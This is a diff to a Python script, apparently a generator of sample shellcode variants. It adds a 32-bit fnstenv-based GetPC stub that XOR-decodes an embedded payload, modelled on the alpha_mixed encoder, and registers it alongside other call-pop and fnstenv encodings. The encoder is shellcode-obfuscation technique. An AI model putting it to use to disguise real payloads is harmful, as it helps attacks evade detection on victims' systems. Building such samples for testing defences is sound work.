@@ -98,6 +98,19 @@ def fnstenv32(inner, key):
                 db(xor_bytes(inner, key)))
 
 
+def fnstenv_reg32(inner, key):
+    # alpha_mixed's GetPC: the environment goes below another register
+    # that holds esp, "fnstenv [edx - 0xc]".
+    return nasm("BITS 32\n"
+                "start:\n  mov edx, esp\n  fcmovu st0, st3\n"
+                "  fnstenv [edx - 0xc]\n  pop ebx\n"
+                "  add ebx, byte payload - start\n"
+                "  push byte %d\n  pop ecx\n"
+                "lp:\n  xor byte [ebx], 0x%02x\n  inc ebx\n  loop lp\n"
+                "payload:\n" % (len(inner), key) +
+                db(xor_bytes(inner, key)))
+
+
 def call_pop64(inner, key):
     return nasm("BITS 64\n"
                 "  jmp short get\n"
@@ -149,6 +162,8 @@ def families():
                     jmp_call_pop32(p32[k], 0x5a)))
         out.append(("i386_callpop_" + k, "x86", call_pop32(p32[k], 0x37)))
         out.append(("i386_fnstenv_" + k, "x86", fnstenv32(p32[k], 0xaa)))
+        out.append(("i386_fnstenvreg_" + k, "x86",
+                    fnstenv_reg32(p32[k], 0x5c)))
     p64 = pwn_payloads("amd64")
     for k, v in p64.items():
         out.append(("amd64_" + k, "x86_64", v))
